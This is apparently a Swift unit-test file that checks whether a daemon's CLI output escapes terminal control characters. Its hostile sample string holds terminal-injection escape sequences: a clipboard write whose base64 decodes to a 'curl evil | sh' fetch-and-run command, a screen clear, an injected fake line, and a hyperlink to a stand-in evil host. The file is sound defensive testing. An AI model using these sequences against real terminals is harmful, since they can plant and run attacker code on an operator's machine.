import Foundation
import ProbityDaemon
import XCTest

/// What `probity violations` and `probity follow` print for the daemon's answers: values from
/// the code under watch cannot drive the operator's terminal or add lines.
final class ClientTextTests: XCTestCase {
    static let hostile = "/tmp/x\u{1b}[2J\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}\u{9b}31m\r\nfake line\u{0}\u{7f}\u{1b}]8;;https://evil.example/\u{1b}\\"

    /// The answer as the client receives it: a line of JSON, parsed.
    private func parsed(_ object: [String: Any]) throws -> [String: Any] {
        let data = try JSONSerialization.data(withJSONObject: object)
        return try XCTUnwrap(JSONSerialization.jsonObject(with: data) as? [String: Any])
    }

    private func assertInert(_ line: String, file: StaticString = #filePath, line number: UInt = #line) {
        for scalar in line.unicodeScalars where scalar.value < 0x20 || (0x7F...0x9F).contains(scalar.value) {
            XCTFail("U+\(String(scalar.value, radix: 16)) in \(line.debugDescription)", file: file, line: number)
            return
        }
    }

    func testViolationRowIsOneInertLine() throws {
        let violation = try parsed([
            "time": "2026-01-01T00:00:00.123456789Z", "severity": "critical", "contract": "default", "rule": "no-\u{1b}[1m",
            "message": "wrote \(Self.hostile)",
            "package": ["name": "evil\u{1b}]0;title\u{7}", "version": "1.0\r"],
        ])
        let row = ClientText.violation(violation)
        assertInert(row)
        XCTAssertEqual(
            row,
            "2026-01-01T00:00:00  critical  evil\\x1b]0;title\\x07@1.0\\r  default/no-\\x1b[1m  wrote "
                + "/tmp/x\\x1b[2J\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x9b31m\\r\\nfake line\\x00\\x7f\\x1b]8;;https://evil.example/\\x1b\\\\")
        XCTAssertEqual(ClientText.violation(try parsed(["severity": "low", "contract": "c", "rule": "r", "message": "m"])),
                       "  low  unattributed  c/r  m")
    }

    func testEventRowIsOneInertLine() throws {
        for key in ["path", "exe", "address"] {
            let event = try parsed(["time": "2026-01-01T00:00:00Z", "kind": "open", "pid": 42, key: Self.hostile])
            let row = ClientText.event(event)
            assertInert(row)
            XCTAssertTrue(row.hasPrefix("2026-01-01T00:00:00Z  open  pid 42  /tmp/x\\x1b[2J"), row)
        }
        XCTAssertEqual(ClientText.value(NSNull(), or: "?"), "?")
        XCTAssertEqual(ClientText.value(nil, or: "?"), "?")
        XCTAssertEqual(ClientText.value(7), "7")
    }
}
